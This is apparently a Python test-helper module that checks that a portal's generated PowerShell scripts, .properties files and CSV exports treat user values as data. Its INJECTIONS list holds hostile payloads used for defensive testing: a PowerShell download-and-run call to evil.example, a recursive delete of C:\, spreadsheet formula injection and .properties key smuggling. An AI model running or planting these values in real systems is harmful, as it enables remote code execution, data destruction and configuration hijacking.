"""Hostile values for the files and scripts the portal generates: each must come back out of
a PowerShell script, a ``.properties`` file or a CSV export as data, never as code."""

import csv
import io

from hypothesis import strategies as st

# PowerShell ends a single-quoted string on any of these (about_Quoting_Rules).
SINGLE_QUOTES = "'\u2018\u2019\u201a\u201b"
# ... and a double-quoted one on any of these.
DOUBLE_QUOTES = '"\u201c\u201d\u201e'

INJECTIONS = [
    "",
    " ",
    "a\u2019;iex(irm(\u2019https://evil.example/x\u2019));\u2019@contoso.edu",
    "a';iex(irm('https://evil.example/x'));'@contoso.edu",
    "O\u2019Brien \u2018College\u2019 \u201aGent\u201b",
    "''\u2018\u2018\u2019\u2019",
    "'",
    "\u2019",
    "x'",
    "x\u201b",
    "`'`\u2019`",
    "$(Remove-Item C:\\ -Recurse)",
    "${env:PATH}@{a=1}",
    '"; Start-Process calc; "',
    "\u201c$(calc)\u201d",
    "a; b | c & d",
    "# not a comment",
    "<#\n#>",
    "line one\nline two\r\nline three\rend",
    "\x00",
    "a\x00b",
    "\t\x0b\x0c\x1b[31m\x7f\x85",
    "\u202egnp.exe\u202c \u2066isolate\u2069",
    "\u2028\u2029",
    "\u200b\ufeff\u00ad",
    "\\",
    "\\u0041\\n",
    "=cmd|'/c calc'!A1",
    "+1", "-1", "@SUM(A1)", "\t=1", "\r=1",
    "x;=1+1", "x,=1", "x; -2", 'x;"=1"', "x,@A1",
    "key=value", "a:b", " leading space", "trailing space ",
    "#comment", "!comment",
    "office365.authority=https://evil.example/",
    "x\noffice365.authority=https://evil.example/",
    "x\\\noffice365.authority=https://evil.example/",
    "Universit\u00e4t G\u00f6ttingen",
    "\u5927\u5b66 \U0001f4a5 \ud7ff",
]  # fmt: skip


def literals(script: str) -> tuple[list[str], str]:
    """The single-quoted strings of ``script`` (their values) and the script with each one
    replaced by ``\\x00``: what PowerShell reads as code around them.

    PowerShell reads a single-quoted string by about_Quoting_Rules: it starts at any of the
    five single-quote characters and ends at the next one that is not doubled; two of them
    in a row stand for one. The scripts hold no double-quoted string or comment that a value
    could reach, so nothing else of PowerShell's grammar is needed to find the values.
    """
    values, code, i = [], [], 0
    while i < len(script):
        if script[i] not in SINGLE_QUOTES:
            code.append(script[i])
            i += 1
            continue
        value, i = [], i + 1
        while True:
            assert i < len(script), "a single-quoted string is never closed"
            if script[i] in SINGLE_QUOTES:
                if i + 1 < len(script) and script[i + 1] in SINGLE_QUOTES:
                    value.append(script[i + 1])
                    i += 2
                    continue
                i += 1
                break
            value.append(script[i])
            i += 1
        values.append("".join(value))
        code.append("\x00")
    return values, "".join(code)


def quoted_csv_rows(text: str) -> list[list[str]]:
    """The rows of a CSV export, once checked that every cell is quoted: written again
    with every cell quoted, they give back ``text`` to the letter."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    again = io.StringIO()
    csv.writer(again, quoting=csv.QUOTE_ALL).writerows(rows)
    assert again.getvalue() == text, "every cell is quoted"
    return rows


# Characters with a meaning in PowerShell, .properties files or spreadsheets.
SPECIAL = "`$();,=+-@#!:\\ \t\r\n\x00"

hostile_text = st.one_of(
    st.sampled_from(INJECTIONS),
    st.text(max_size=60),
    st.text(alphabet=st.sampled_from(SINGLE_QUOTES + DOUBLE_QUOTES + SPECIAL), max_size=30),
    st.lists(st.sampled_from(INJECTIONS), min_size=2, max_size=4).map("".join),
)
